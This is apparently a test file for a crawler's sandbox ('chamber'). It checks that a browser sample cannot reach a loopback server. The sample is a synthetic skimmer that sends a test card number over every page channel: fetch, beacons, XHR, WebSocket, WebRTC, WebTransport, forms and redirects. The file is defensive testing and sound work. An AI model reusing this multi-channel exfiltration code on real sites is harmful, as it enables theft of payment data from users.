// Nothing leaves the chamber: a sample aimed at a live loopback server, by address and by name,
// over every channel a page has, never reaches it; and the chamber's browser flags alone keep
// an unrouted request from leaving.
import { createSocket, type Socket } from 'node:dgram'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { chromium } from 'playwright'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createChamber, NO_NETWORK_ARGS, type Chamber } from '../../crawler/detonate.ts'
import { chromiumArgs, findChromium } from '../../crawler/launch.ts'

let server: Server
let udp: Socket
let port = 0
const hits: string[] = []
let chamber: Chamber

/** Every way a page can reach a host, aimed at `base` (http://host:port). */
function sampleAimingAt(base: string): string {
  const ws = base.replace(/^http/, 'ws')
  const host = new URL(base).host
  return `
    var card = '4111111111111111';
    fetch('${base}/fetch?c=' + card).catch(function () {});
    new Image().src = '${base}/img?c=' + card;
    navigator.sendBeacon('${base}/beacon', card);
    var x = new XMLHttpRequest(); x.open('POST', '${base}/xhr'); x.send(card);
    var s = document.createElement('script'); s.src = '${base}/script.js'; document.head.appendChild(s);
    var f = document.createElement('iframe'); f.src = '${base}/frame'; document.body.appendChild(f);
    var l = document.createElement('link'); l.rel = 'stylesheet'; l.href = '${base}/style.css'; document.head.appendChild(l);
    ['dns-prefetch', 'preconnect', 'prefetch'].forEach(function (rel) {
      var h = document.createElement('link'); h.rel = rel; h.href = '${base}/' + rel; document.head.appendChild(h);
    });
    var st = document.createElement('style'); st.textContent = 'body{background:url(${base}/bg.png)}'; document.head.appendChild(st);
    try { new EventSource('${base}/events'); } catch (e) {}
    try { new Worker(URL.createObjectURL(new Blob(["fetch('${base}/worker')"], { type: 'text/javascript' }))); } catch (e) {}
    var sock = new WebSocket('${ws}/socket'); sock.onopen = function () { sock.send(card); };
    try {
      var pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${host}' }, { urls: 'turn:${host}', username: 'u', credential: 'c' }] });
      var dc = pc.createDataChannel('x');
      pc.createOffer().then(function (o) { return pc.setLocalDescription(o); }).catch(function () {});
    } catch (e) {}
    try {
      var wt = new WebTransport('https://' + '${host}' + '/transport');
      wt.ready.then(function () { return wt.datagrams.writable.getWriter().write(new TextEncoder().encode(card)); }).catch(function () {});
    } catch (e) {}
    var form = document.createElement('form'); form.method = 'POST'; form.action = '${base}/post';
    var i = document.createElement('input'); i.name = 'cc'; i.value = card; form.appendChild(i);
    document.body.appendChild(form);
    setTimeout(function () { form.submit(); }, 1000);
    setTimeout(function () { window.open('${base}/popup'); location.href = '${base}/away?c=' + card; }, 2000);
  `
}

beforeAll(async () => {
  server = createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`)
    res.end('ok')
  })
  server.on('upgrade', (req, socket) => {
    hits.push(`UPGRADE ${req.url}`)
    socket.destroy()
  })
  server.on('connect', (req, socket) => {
    hits.push(`CONNECT ${req.url}`)
    socket.destroy()
  })
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r))
  port = (server.address() as AddressInfo).port
  // STUN and TURN speak UDP: a datagram on the same port would be a leak too.
  udp = createSocket('udp4')
  udp.on('message', () => hits.push('UDP'))
  await new Promise<void>((r) => udp.bind(port, '127.0.0.1', r))
  // a loaded CI machine runs other suites beside this one: room enough to finish every page
  chamber = await createChamber({ timeBudgetMs: 60_000 })
}, 30_000)

afterAll(async () => {
  await chamber?.close()
  udp?.close()
  await new Promise((r) => server?.close(r))
})

describe('the chamber reaches no network', () => {
  it(
    'answers a sample aimed at 127.0.0.1 and localhost itself, and the server sees nothing',
    { timeout: 150_000 },
    async () => {
      const byAddress = await chamber.detonate(sampleAimingAt(`http://127.0.0.1:${port}`))
      const byName = await chamber.detonate(sampleAimingAt(`http://localhost:${port}`))
      for (const o of [byAddress, byName]) {
        expect(o.status, o.reason ?? '').toBe('ok')
        // The attempts are recorded, every one answered in the chamber.
        const types = new Set(o.requests.map((r) => r.type))
        for (const t of [
          'fetch',
          'image',
          'beacon',
          'xhr',
          'script',
          'iframe',
          'css',
          'websocket',
          'link',
          'form',
          'webtransport',
        ])
          expect(types, `no ${t} request recorded`).toContain(t)
        expect(o.requests.some((r) => r.url.includes('/worker'))).toBe(true)
        expect(o.requests.some((r) => r.url.includes('/away?c='))).toBe(true)
        expect(o.requests.some((r) => r.method === 'RTC' && r.url.startsWith('stun:'))).toBe(true)
        expect(o.requests.filter((r) => r.carriesCard).length).toBeGreaterThan(5)
      }
      expect(byAddress.requests.some((r) => r.url.startsWith(`http://127.0.0.1:${port}/`))).toBe(
        true,
      )
      expect(byName.requests.some((r) => r.url.startsWith(`http://localhost:${port}/`))).toBe(true)
      // Give anything that slipped out a moment to arrive before counting.
      await new Promise((r) => setTimeout(r, 300))
      expect(hits).toEqual([])
    },
  )

  it(
    'keeps an unrouted request inside by its browser flags alone',
    { timeout: 30_000 },
    async () => {
      const args = [
        ...chromiumArgs({ allowPrivate: false, resolve: [], timeoutMs: 0 }),
        ...NO_NETWORK_ARGS,
      ]
      const browser = await chromium.launch({ executablePath: findChromium(undefined), args })
      try {
        const page = await browser.newPage()
        for (const url of [`http://127.0.0.1:${port}/direct`, `http://localhost:${port}/direct`]) {
          await expect(page.goto(url, { timeout: 5000 })).rejects.toThrow(/net::ERR_/)
        }
        expect(hits).toEqual([])
      } finally {
        await browser.close()
      }
    },
  )
})
